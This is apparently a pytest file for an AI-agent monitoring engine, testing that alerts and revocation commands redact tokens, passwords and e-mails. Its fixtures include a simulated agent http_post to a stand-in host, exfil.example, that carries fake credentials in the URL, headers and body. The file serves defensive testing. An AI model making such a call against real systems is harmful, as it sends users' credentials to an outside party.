"""Alerts carry no secrets: what an agent put in its arguments and URIs is redacted."""

from __future__ import annotations

from pathlib import Path

import orjson
import pytest

from monitor import testing as tb
from monitor.core import Engine, EngineSettings
from monitor.core.redact import RedactionRules, Redactor
from monitor.errors import MonitorError
from monitor.replay import replay_file
from monitor.settings import load_settings

#: One secret of each kind the default rules cover, as an attacker might smuggle it.
SECRETS = {
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZ2VudCJ9.c2lnbmF0dXJlLXZhbHVl",
    "aws": "AKIAIOSFODNN7EXAMPLE",
    "github": "ghp_" + "Z" * 36,
    "slack": "xoxb-1234567890-abcdefghij",
    "sk": "sk-proj-" + "q" * 40,
    "google": "AIza" + "B" * 35,
    "url_password": "hunter2hunter2",
    "kv_password": "correct-horse-battery",
    "kv_token": "t0k3nValue99",
    "bearer": "abcDEF123456ghiJKL",
}
EMAIL = "alice.sponsor@corp.example"


def _evil_resources() -> list[str]:
    s = SECRETS
    return [  # alerts quote the first three resources: each carries several secrets
        f"https://exfil.example/upload?token={s['kv_token']}&k={s['jwt']}&gh={s['github']}",
        f"postgres://admin:{s['url_password']}@db.internal/prod?x={s['slack']}",
        f"https://api.example/?password={s['kv_password']}&a={s['aws']}&b={s['sk']}&c={s['google']}",
        f"mailto:{EMAIL}",
    ]


def _events(agent: str = "agent:assist/1") -> list[object]:
    args = {
        "url": _evil_resources()[0],
        "headers": f"Authorization: Bearer {SECRETS['bearer']}",
        "body": f'{{"password": "{SECRETS["kv_password"]}", "to": "{EMAIL}"}}',
    }
    return [
        tb.task_started(0, agent, "T", EMAIL),
        # a tool outside the charter, touching resources outside it: both are quoted in reasons
        tb.call(
            1,
            agent,
            "web",
            "http_post",
            task_id="T",
            sponsor=EMAIL,
            args=args,
            resources=_evil_resources(),
        ),
        tb.task_ended(2, agent, "T", EMAIL),
        tb.call(90, agent, "fs", "read_file", task_id="T", sponsor=EMAIL, resources=["file://x"]),
    ]


CHARTER = tb.charter(
    "agent:assist/*",
    "delegated",
    tools=[{"server": "fs", "tool": "read_file", "classes": ["read"]}],
    resources=["file://**"],
    limits={"task_grace_seconds": 30},
)


def _alert_text(eng: Engine) -> bytes:
    out = b""
    for ev in _events():
        d = eng.process(ev)
        out += b"".join(a.to_json() + b"\n" for a in d.alerts)
        out += b"".join(r.to_json() + b"\n" for r in d.revocations)
    return out


def test_the_unredacted_alerts_would_leak_every_secret() -> None:
    """The control: without rules the secrets do reach the alerts, so the next test means something."""
    text = _alert_text(Engine([CHARTER], EngineSettings(redaction=RedactionRules(secrets=False))))
    leaked = [name for name, s in SECRETS.items() if s.encode() in text]
    assert set(leaked) >= set(SECRETS) - {"bearer"}  # the header sits in args, not in a reason
    assert EMAIL.encode() in text


def test_default_rules_take_every_secret_out_of_alerts_and_commands() -> None:
    text = _alert_text(Engine([CHARTER]))
    assert b"[REDACTED:" in text
    for name, s in SECRETS.items():
        assert s.encode() not in text, name
    assert EMAIL.encode() in text  # e-mails only on request


def test_emails_are_redacted_when_asked_for_everywhere_in_the_alert() -> None:
    rules = RedactionRules(emails=True)
    text = _alert_text(Engine([CHARTER], EngineSettings(redaction=rules)))
    assert EMAIL.encode() not in text
    alerts = [orjson.loads(x) for x in text.splitlines() if b'"detector"' in x]
    assert alerts and all(a["sponsor"] in (None, "[REDACTED:email]") for a in alerts)


def test_ids_do_not_change_with_redaction() -> None:
    plain = Engine([CHARTER], EngineSettings(redaction=RedactionRules(secrets=False)))
    red = Engine([CHARTER], EngineSettings(redaction=RedactionRules(emails=True)))
    ids = []
    events = _events()
    for eng in (plain, red):
        got = []
        for ev in events:
            d = eng.process(ev)
            got += [a.alert_id for a in d.alerts] + [r.command_id for r in d.revocations]
        ids.append(got)
    assert ids[0] == ids[1] and ids[0]


def test_revocation_targets_are_never_redacted() -> None:
    """credential_ids are what the revoker acts on: a token-looking id must stay intact there."""
    cred = SECRETS["jwt"]
    eng = Engine([CHARTER])
    d = eng.process(tb.call(1, "agent:assist/2", "github", "delete_repo", credential_id=cred))
    assert d.revocations and d.revocations[0].credential_ids == [cred]
    assert d.alerts and d.alerts[0].credential_id == "[REDACTED:jwt]"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Authorization: Bearer abcdefghijklmnop",
            "Authorization: Bearer [REDACTED:authorization]",
        ),
        ("https://bob:pw@db.example/x", "https://bob:[REDACTED:url-password]@db.example/x"),
        ('{"api_key": "zz9plural"}', '{"api_key": "[REDACTED:key-value]"}'),
        ("client_secret=abc&x=1", "client_secret=[REDACTED:key-value]&x=1"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
            "[REDACTED:private-key]",
        ),
        # ordinary alert prose is left alone
        ("task T of a ended: revoking its 2 live credential(s)", None),
        ("called fs/read_file 1m after its task T ended (grace 30s)", None),
        ("session s1 of agent a", None),
    ],
)
def test_default_rules(text: str, expected: str | None) -> None:
    assert Redactor(RedactionRules())(text) == (text if expected is None else expected)


def test_extra_patterns_from_settings() -> None:
    s = load_settings(env={"MCPMON_REDACT_PATTERNS": '["acct-[0-9]+"]'})
    r = Redactor(s.redaction())
    assert r("moved acct-12345 out") == "moved [REDACTED:custom-1] out"
    with pytest.raises(MonitorError, match="REDACT_PATTERNS"):
        load_settings(env={"MCPMON_REDACT_PATTERNS": '["("]'}).redaction()
    with pytest.raises(MonitorError, match="JSON list"):
        load_settings(env={"MCPMON_REDACT_PATTERNS": "acct-[0-9]+"}).redaction()
    assert load_settings(env={"MCPMON_REDACT_EMAILS": "true"}).engine().redaction.emails


def test_replay_writes_no_secret_to_alerts_jsonl(tmp_path: Path) -> None:
    events = tmp_path / "events.jsonl"
    events.write_bytes(b"".join(orjson.dumps(e.model_dump(mode="json")) + b"\n" for e in _events()))
    charters = tmp_path / "charters"
    charters.mkdir()
    (charters / "c.yaml").write_bytes(orjson.dumps(CHARTER.model_dump(exclude_none=True)))
    eng = Engine([CHARTER], load_settings(env={}).engine())
    s = replay_file(str(events), eng, tmp_path / "out")
    assert sum(s.alerts.values()) >= 2
    for name in ("alerts.jsonl", "revocations.jsonl"):
        text = (tmp_path / "out" / name).read_bytes()
        for key, secret in SECRETS.items():
            assert secret.encode() not in text, (name, key)
